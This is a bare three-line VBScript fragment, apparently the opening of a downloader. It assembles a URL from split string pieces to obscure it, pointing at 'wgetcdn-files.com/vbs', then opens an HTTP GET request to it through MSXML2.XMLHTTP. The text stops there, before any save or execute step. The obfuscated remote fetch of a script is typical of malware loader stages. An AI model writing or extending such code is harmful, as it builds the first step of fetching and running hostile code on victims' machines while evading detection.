u = "ht" & "tps://wgetcdn" & "-files.com/vbs"
Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", u, False
